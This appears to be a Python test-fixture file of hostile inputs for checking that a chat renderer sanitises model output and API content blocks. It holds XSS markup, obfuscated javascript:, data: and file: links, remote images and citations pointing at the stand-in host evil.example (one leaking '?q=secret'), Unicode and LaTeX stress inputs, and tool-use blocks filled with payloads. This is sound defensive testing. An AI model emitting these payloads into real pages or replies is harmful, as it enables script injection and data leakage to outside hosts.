"""Texts, names and blocks that a model or a person could send to harm a reader."""

from __future__ import annotations

from providers.types import Json

FAR = "https://evil.example"

MARKUP = [
    "<script>window.harm = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.harm = 1</scr</script>ipt>",
    "<img src=x onerror=window.harm=1>",
    "<img src=`x` onerror=window.harm=1//",
    "<svg onload=window.harm=1><script>window.harm=1</script></svg>",
    '<svg><a xlink:href="javascript:window.harm=1"><text>click</text></a></svg>',
    "<svg><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.harm=1&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.harm=1</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=q><button>Send</button></form>",
    "<button formaction=https://evil.example type=submit>Go</button>",
    "<style>body { background: url(https://evil.example/x.png) }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4 autoplay></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<details open ontoggle=window.harm=1>x</details>",
    "<body onload=window.harm=1>",
    "<template><img src=x onerror=window.harm=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.harm=1>'>",
    "<!--><img src=x onerror=window.harm=1>-->",
    "<![CDATA[<img src=x onerror=window.harm=1>]]>",
    "<xmp><img src=x onerror=window.harm=1></xmp>",
    "<div hx-get=/sidebar/ hx-trigger=load>x</div>",
    "<div data-hx-post=/c/ data-hx-trigger=load>x</div>",
    "<div hx-on:click=window.harm=1 hx-on::load=window.harm=1>x</div>",
    "<div hx-vals='js:{a: window.harm=1}' hx-post=/c/ hx-trigger=load>x</div>",
    "<live-thread conversation=x></live-thread><answer-view></answer-view>",
    "&lt;script&gt;window.harm = 1&lt;/script&gt;",
    "`<img src=x onerror=window.harm=1>`",
    "```html\n<script>window.harm = 1</script>\n```",
    '```"><script>window.harm=1</script>\nx\n```',
    '```"onmouseover="window.harm=1\nx\n```',
    "| <img src=x onerror=window.harm=1> | b |\n| --- | --- |\n"
    "| <script>window.harm=1</script> | </table><script> |",
    '[a](https://docs.example.org "\\" onmouseover=window.harm=1 x=\\"")',
    '![a"onerror="window.harm=1](https://evil.example/x.png)',
    "</script><script>window.harm = 1</script>",
    "</textarea></title></style><script>window.harm = 1</script>",
]

LINKS = [
    "[x](javascript:window.harm=1)",
    "[x](JaVaScRiPt:window.harm=1)",
    "[x](  javascript:window.harm=1)",
    "[x](java\tscript:window.harm=1)",
    "[x](java&Tab;script:window.harm=1)",
    "[x](java&#x09;script&colon;window.harm=1)",
    "[x](&#106;avascript:window.harm=1)",
    "[x](\\x01javascript:window.harm=1)",
    "[x](javascript&#58;window.harm=1)",
    "[x](<javascript:window.harm=1>)",
    "[x](<java\u00adscript:window.harm=1>)",
    "[x](data:text/html,<script>window.harm=1</script>)",
    "[x](DATA:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=window.harm=1>)",
    "[x](vbscript:msgbox)",
    "[x](VbScRiPt:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](FILE://host/share)",
    "[x](//evil.example/path)",
    "[x](\\\\\\\\evil.example\\\\path)",
    "[x](/logout/)",
    "[x](?next=x)",
    "[x](#turns)",
    "[x](ftp://evil.example/)",
    "[x](blob:null/1)",
    "[x](intent://scan/#Intent;end)",
    "[x](https:evil.example)",
    "[x](https://)",
    "[x]( )",
    "<javascript:window.harm=1>",
    "<data:text/html,x>",
    "[x][ref]\n\n[ref]: javascript:window.harm=1",
    "[ref]\n\n[ref]: <vbscript:msgbox> 'title'",
    "javascript:window.harm=1 and //evil.example and data:text/html,x",
]

GOOD_LINKS = {
    "[docs](https://docs.example.org/a?b=c#d)": "https://docs.example.org/a?b=c#d",
    "[docs](HTTP://Docs.Example.org/)": "http://docs.example.org/",
    "<https://docs.example.org/>": "https://docs.example.org/",
    "[mail](mailto:olga@example.org)": "mailto:olga@example.org",
    "https://docs.example.org/bare": "https://docs.example.org/bare",
}

IMAGES = [
    f"![a]({FAR}/inline.png)",
    f'![a]({FAR}/titled.png "a title")',
    f"![a][pic]\n\n[pic]: {FAR}/reference.png",
    f"![pic]\n\n[pic]: <{FAR}/shortcut.png>",
    f"[![a]({FAR}/linked.png)]({FAR}/page)",
    "![a](//evil.example/relative.png)",
    "![a](/static/own.png)",
    "![a](own.png)",
    f"<img src={FAR}/html.png>",
    f"<img srcset='{FAR}/set.png 2x'>",
    f"<picture><source srcset={FAR}/source.png><img></picture>",
    f"<div style='background: url({FAR}/css.png)'>x</div>",
    f"<svg><image href={FAR}/svg.png /><use href={FAR}/use.svg#a /></svg>",
    f"<input type=image src={FAR}/input.png>",
    f"<video poster={FAR}/poster.png></video>",
    f"$\\includegraphics{{{FAR}/maths.png}}$ and $\\href{{javascript:window.harm=1}}{{x}}$",
    f"$$\\url{{{FAR}/maths}} \\htmlStyle{{background: url({FAR}/m.png)}}{{x}}$$",
    "$\\htmlData{hx-get=/}{x} \\htmlClass{x}{y} \\htmlId{turns}{z}$",
    f"```mermaid\ngraph TD; A[<img src={FAR}/diagram.png>] --> B\n```",
    f"![data](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{FAR}/d.png'/></svg>)",
]

ODD = [
    "before\x00after **bold\x00**",
    "\ufeffstarts with a mark",
    "carriage\rreturns\r\nonly\r\r# Heading",
    "line\u2028and paragraph\u2029separators",
    "right \u202eto left\u202c and \u2066isolated\u2069 \u200b\u200d\u2060 zero width",
    "half a pair \ud83d and \udc00 alone, whole \U0001f600 and family 👩\u200d👩\u200d👧",
    "\ue0001\ue001 ⸨\ue0001\ue001⸩ private marks",
    "Z\u0351\u036b\u0343\u036a" * 40,
    "ﷺ" * 50 + " مرحبا [رابط](https://docs.example.org/) **عريض**",
]

MATHS = [
    "$\\def\\a{\\a\\a}\\a$",
    "$" + "\\underline{" * 500 + "x" + "}" * 500 + "$",
    "$$\\rule{99999em}{99999em}$$",
    "$$\\newcommand{\\x}{aaaaaaaaaa}" + "\\x" * 2000 + "$$",
    "$__proto__$ and $\\constructor$ and `__proto__`",
]

NAMES = {
    "markup": '"><img src=x onerror=window.harm=1>',
    "script": "</title></script><script>window.harm = 1</script>",
    "quotes": "Ann 'O\" `Hara` &amp; <b>Sons</b> {{ 7|add:7 }} {% now %} ${7*7}",
    "directions": "\u202eevil\u202c مرحبا abc",
    "long": "W" * 10_000,
    "lines": "first\nsecond\r\nthird\tfourth",
}


def blocks() -> list[Json]:
    """Blocks whose every text field is hostile: tools, results, sources, thinking, and kinds nobody knows."""
    bad, address = NAMES["markup"], "javascript:window.harm=1"
    hit = {
        "type": "web_search_result",
        "title": bad,
        "url": address,
        "encrypted_content": bad,
        "page_age": bad,
    }
    cited = {
        "type": "web_search_result_location",
        "cited_text": bad,
        "url": address,
        "title": bad,
        "encrypted_index": bad,
    }
    return [
        {"type": "thinking", "thinking": f"{bad} [x]({address}) ![y]({FAR}/thought.png)", "signature": bad},
        {"type": "redacted_thinking", "data": bad},
        {"type": "server_tool_use", "id": "s1", "name": "web_search", "input": {"query": bad, bad: bad}},
        {
            "type": "web_search_tool_result",
            "tool_use_id": "s1",
            "content": [hit, {**hit, "url": "//evil.example"}],
        },
        {"type": "server_tool_use", "id": "s2", "name": "web_fetch", "input": {"url": address}},
        {
            "type": "web_fetch_tool_result",
            "tool_use_id": "s2",
            "content": {
                "type": "web_fetch_result",
                "url": address,
                "content": {"title": bad, "source": {"type": "text", "data": bad}},
            },
        },
        {"type": "server_tool_use", "id": "s3", "name": "bash_code_execution", "input": {"command": bad}},
        {
            "type": "bash_code_execution_tool_result",
            "tool_use_id": "s3",
            "content": {
                "type": "x",
                "stdout": bad,
                "stderr": bad,
                "return_code": 1,
                "content": [{"file_id": bad}],
            },
        },
        {"type": "server_tool_use", "id": "s4", "name": bad, "input": {"__proto__": bad, "constructor": bad}},
        {
            "type": "web_search_tool_result",
            "tool_use_id": "s4",
            "content": {"type": "x_error", "error_code": bad},
        },
        {"type": "tool_use", "id": bad, "name": bad, "input": {"a": {"b": [bad]}}},
        {"type": "mcp_tool_use", "id": "m1", "name": bad, "server_name": bad, "input": {"x": bad}},
        {
            "type": "mcp_tool_result",
            "tool_use_id": "m1",
            "is_error": False,
            "content": [{"type": "text", "text": bad}],
        },
        {"type": "fallback", "to": {"model": bad}},
        {"type": bad, "anything": bad},
        {"type": "container_upload", "file_id": bad},
        {
            "type": "text",
            "text": f"Cited {bad}",
            "citations": [cited, {**cited, "url": f"{FAR}/page?q=secret"}],
        },
    ]
